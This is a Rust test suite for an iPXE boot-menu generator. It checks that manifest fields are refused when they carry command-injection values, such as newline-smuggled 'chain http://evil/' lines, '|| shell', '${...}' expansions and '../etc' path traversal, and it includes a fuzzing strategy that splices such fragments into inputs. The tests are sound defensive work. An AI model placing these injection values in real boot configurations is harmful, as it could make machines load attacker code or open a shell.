use crate::support::{manifest, options};
use repack_core::{Arch, FileRole};
use repack_menu::{MenuEntry, MenuError, MenuOptions};

fn refused(result: Result<MenuEntry, MenuError>, field: &str) {
    match result {
        Err(MenuError::Unsafe { field: f, .. }) => assert_eq!(f, field),
        other => panic!("expected {field} to be refused, got {other:?}"),
    }
}

const PATH: &str = "debian-live/12.8.0-1a2b3c4d";

#[test]
fn names_that_would_inject_commands_are_refused() {
    let m = manifest("debian-live", Arch::X86_64, "12.8.0");
    assert!(MenuEntry::from_manifest(&m, PATH).is_ok());
    for name in [
        "Debian\n:repack-item-evil\nchain http://evil/",
        "Debian\r",
        "Debian ${net0/ip}",
        "Debian ${repack-base}",
        "Debian || shell",
        "Debian && chain http://evil",
        "Debian ; shell",
        "Debian #1",
        "Debian \\",
        "",
        "Debian\u{1b}[2J",
        "Débian",
    ] {
        let mut m = m.clone();
        m.name = name.into();
        refused(MenuEntry::from_manifest(&m, PATH), "name");
    }
    let mut m = m.clone();
    m.os = "debian\nshell".into();
    refused(MenuEntry::from_manifest(&m, PATH), "os");
}

#[test]
fn an_upstream_version_is_untrusted_too() {
    let m = manifest("debian-live", Arch::X86_64, "12.8.0\nshell");
    refused(MenuEntry::from_manifest(&m, PATH), "version");
    let m = manifest("debian-live", Arch::X86_64, "${foo}");
    refused(MenuEntry::from_manifest(&m, PATH), "version");
}

#[test]
fn ids_become_labels_only_from_safe_characters() {
    for recipe in [
        "debian live",
        "debian:live",
        "-debian",
        "debian/live",
        "debian${x}",
        "",
    ] {
        let m = manifest(recipe, Arch::X86_64, "12.8.0");
        refused(MenuEntry::from_manifest(&m, PATH), "recipe id");
    }
}

#[test]
fn cmdlines_paths_and_files_are_checked() {
    let mut m = manifest("debian-live", Arch::X86_64, "12.8.0");
    m.cmdline = "boot=live fetch={base}/fs ${evil}".into();
    refused(MenuEntry::from_manifest(&m, PATH), "cmdline");
    m.cmdline = "boot=live\ninitrd http://evil/x".into();
    refused(MenuEntry::from_manifest(&m, PATH), "cmdline");
    m.cmdline = "boot=live || shell".into();
    refused(MenuEntry::from_manifest(&m, PATH), "cmdline");

    let m = manifest("debian-live", Arch::X86_64, "12.8.0");
    for path in ["../etc", "/abs", "a b", "a/${x}", "a\n", ""] {
        refused(MenuEntry::from_manifest(&m, path), "path");
    }

    let mut m = manifest("debian-live", Arch::X86_64, "12.8.0");
    m.files
        .push(crate::support::file("x y", FileRole::Rootfs, &["x y"]));
    refused(MenuEntry::from_manifest(&m, PATH), "stored file name");
}

#[test]
fn a_manifest_without_one_whole_kernel_and_initrd_is_refused() {
    let mut m = manifest("debian-live", Arch::X86_64, "12.8.0");
    m.files.retain(|f| f.role != FileRole::Kernel);
    assert!(matches!(
        MenuEntry::from_manifest(&m, PATH),
        Err(MenuError::BootFile {
            role: FileRole::Kernel,
            count: 0,
            ..
        })
    ));
    let mut m = manifest("debian-live", Arch::X86_64, "12.8.0");
    m.files[1] = crate::support::file("initrd", FileRole::Initrd, &["initrd", "initrd.part2"]);
    let error = MenuEntry::from_manifest(&m, PATH).unwrap_err();
    assert_eq!(error.kind(), "menu-split-boot-file");
}

#[test]
fn options_are_checked_too() {
    assert!(MenuOptions::new("boot.example").is_err());
    assert!(MenuOptions::new("http://a b").is_err());
    assert!(MenuOptions::new("http://boot.example/\nshell").is_err());
    assert!(options().with_title("x\nshell").is_err());
    assert!(options().with_title("${x}").is_err());
    assert!(options().with_default_recipe("a b").is_err());
}

#[test]
fn errors_show_the_value_escaped() {
    let mut m = manifest("debian-live", Arch::X86_64, "12.8.0");
    m.name = "a\nb".into();
    let error = MenuEntry::from_manifest(&m, PATH).unwrap_err();
    let message = error.to_string();
    assert!(!message.contains('\n'), "{message}");
    assert!(message.contains(r#""a\nb""#), "{message}");
    assert!(message.contains("line break"), "{message}");
}

/// A string of `safe` characters with, half of the time, one hostile piece spliced in.
fn spiced(safe: &'static str) -> impl proptest::strategy::Strategy<Value = String> {
    use proptest::prelude::*;
    let hostile = prop_oneof![
        Just("\n"),
        Just("\r"),
        Just("\t"),
        Just("${"),
        Just("${x}"),
        Just("}"),
        Just(" #"),
        Just("#"),
        Just(" || "),
        Just(" && "),
        Just(" ; "),
        Just("||"),
        Just("\\"),
        Just("\u{e9}"),
        Just("\u{1b}"),
        Just(":"),
        Just(" -"),
        Just("{base}"),
    ];
    (
        safe,
        proptest::option::of(hostile),
        any::<proptest::sample::Index>(),
    )
        .prop_map(
            |(mut text, piece, at): (String, Option<&str>, proptest::sample::Index)| {
                if let Some(piece) = piece {
                    let at = at.index(text.len() + 1);
                    text.insert_str(at, piece);
                }
                text
            },
        )
}

proptest::proptest! {
    /// Whatever text arrives, an entry is either refused or renders a script that still
    /// parses into exactly the intended items and kernel line.
    #[test]
    fn any_accepted_entry_renders_a_well_formed_script(
        name in spiced("[a-zA-Z0-9 ().!_-]{1,24}"),
        os in spiced("[a-z ]{1,10}"),
        version in spiced("[0-9.a-z-]{1,10}"),
        cmdline in spiced("[a-z0-9=/. ]{0,30}"),
        recipe in spiced("[a-z0-9_-]{1,12}"),
    ) {
        let mut m = manifest("debian-live", Arch::X86_64, "12.8.0");
        m.name = name;
        m.os = os;
        m.version = version;
        m.cmdline = cmdline;
        m.recipe = recipe;
        if let Ok(entry) = MenuEntry::from_manifest(&m, PATH) {
            let script = repack_menu::render_ipxe(std::slice::from_ref(&entry), &options());
            let parsed = crate::script_rules::check(&script);
            parsed.check_targets();
            proptest::prop_assert_eq!(
                parsed.items(),
                vec![entry.item_name(), "repack-shell".to_owned(), "repack-exit".to_owned()]
            );
            let kernel = parsed.named("kernel").next().unwrap();
            proptest::prop_assert_eq!(kernel[2].as_str(), "initrd=initrd");
            proptest::prop_assert_eq!(kernel.last().unwrap().as_str(), "${repack-args}");
            proptest::prop_assert!(
                kernel.last().unwrap() != "||" && !kernel.iter().any(|w| w == "goto"),
                "the kernel command stops before `|| goto repack-failed`"
            );
        }
    }
}
